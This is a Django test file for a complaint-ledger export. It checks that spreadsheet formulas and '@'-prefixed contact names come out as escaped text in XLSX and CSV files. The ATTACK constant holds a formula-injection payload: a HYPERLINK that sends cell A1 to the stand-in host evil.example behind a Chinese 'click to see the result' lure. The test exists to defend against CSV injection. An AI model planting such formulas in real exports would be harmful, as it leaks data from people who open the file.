"""The complaint ledger's exports write an owner's words as text: a complaint typed as a formula never runs."""

import csv
import io

from django.utils import timezone
from openpyxl import load_workbook

from wuye.workorders.models import Category

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看处理结果")'


def test_a_complaint_that_looks_like_a_formula_is_exported_as_text(world, login):
    category = Category.objects.get(project=world.project1, kind="complaint", code="attitude")
    world.ticket(world.project1, kind="complaint", category=category, description=ATTACK,
                 contact_name="@张三", contact_phone="13700001111")
    client = login("kefu")
    day = timezone.localdate().isoformat()

    book = load_workbook(io.BytesIO(client.get("/console/complaints/ledger/", {"date": day, "format": "xlsx"})
                                    .content))
    row = {cell.column_letter: cell for cell in book.active[3]}
    assert (row["J"].value, row["J"].data_type, row["J"].quotePrefix) == (ATTACK, "s", True)
    assert (row["F"].value, row["F"].data_type) == ("@张三", "s")
    assert row["A"].value == 1 and row["A"].data_type == "n"  # numbers stay numbers

    exported = client.get("/console/complaints/ledger/", {"date": day, "format": "csv"})
    _header, line = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert line[9] == "'" + ATTACK and line[5] == "'@张三" and line[0] == "1"
